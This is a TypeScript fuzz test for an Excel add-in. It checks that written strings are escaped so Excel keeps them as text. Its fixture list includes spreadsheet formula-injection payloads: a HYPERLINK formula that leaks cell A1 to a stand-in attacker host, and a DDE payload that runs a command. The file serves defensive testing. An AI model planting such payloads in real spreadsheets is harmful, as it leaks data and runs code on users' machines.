/**
 * Formula-looking text, fuzzed: whatever string an add-in writes back into a cell (a customer id, a label, a
 * spilled value), the cell must hold that string as text — never a formula, never a number or date Excel made of
 * it. Checked against a model of how Excel reads written strings (test/taskpane/portable-fake.ts `typedText`),
 * which a real Excel is the authority on; the model is pinned on the documented cases below.
 */
import fc from "fast-check";
import { cellText, cellValue, needsTextMark } from "../../src/sheet/cell-text";
import { officeCell } from "../../src/taskpane/batches";
import { typedText } from "../taskpane/portable-fake";
import { DEFAULT_SEED } from "./harness/property";

const settings = (runs: number) => ({
  numRuns: Number(process.env.FUZZ_RUNS) || runs,
  seed: process.env.FUZZ_SEED ? Number(process.env.FUZZ_SEED) : DEFAULT_SEED,
});

const FORMULA_LIKE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "+SUM(A1)",
  "-A1",
  "@SUM(A1:A3)",
  "@A1",
  "＝ＳＵＭ（Ａ１）",
  "＋１",
  "－１",
  "＠A1",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "'=1+1",
  "''",
  "00123",
  "1/2",
  "2024-01-05",
  "(500)",
  "1e5",
  "50%",
  "1,234",
  "TRUE",
  "false",
  "#N/A",
  "#REF!",
  "R6.2.29",
  "１２３",
];

const text = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...FORMULA_LIKE) },
  { weight: 3, arbitrary: fc.string({ maxLength: 20 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom("=", "+", "-", "@", "'", "＝", " ", "#", ""),
        fc.string({ maxLength: 12 })
      )
      .map(([a, b]) => a + b),
  },
  { weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }).map(String) }
);

describe("cellText: what Make portable and the wizard write stays the text it was", () => {
  it("the documented formula starts and every value Excel would convert are marked", () => {
    for (const s of FORMULA_LIKE)
      expect({ s, marked: needsTextMark(s) }).toEqual({ s, marked: true });
    for (const s of ["Tokyo", "顧客", "customer", "Jan", ""]) expect(needsTextMark(s)).toBe(false);
    expect(cellText("=1+1")).toBe("'=1+1");
    expect(cellText("Tokyo")).toBe("Tokyo");
    expect(cellValue(12)).toBe(12);
    expect(cellValue(true)).toBe(true);
  });

  it("the model of Excel turns the unmarked cases into formulas or numbers (so the property below bites)", () => {
    expect(typedText("=1+1").formula).toBe("=1+1");
    expect(typedText("+1+1").formula).toBe("=+1+1");
    expect(typedText("@SUM(A1:A3)").formula).toBe("=SUM(A1:A3)");
    expect(typedText("-5").value).toBe(-5);
    expect(typedText("00123").value).toBe(123);
    expect(typedText("TRUE").value).toBe(true);
  });

  it("any string, written through cellText, reads back as exactly that text (fuzzed)", () => {
    fc.assert(
      fc.property(text, (s) => {
        const read = typedText(cellText(s));
        expect(read).toEqual({ value: s });
      }),
      settings(2000)
    );
  });

  it("the wizard's writer and Make portable use the same function (officeCell)", () => {
    fc.assert(
      fc.property(text, (s) => {
        expect(officeCell({ value: s })).toBe(s === "" ? "" : cellText(s));
      }),
      settings(500)
    );
  });
});
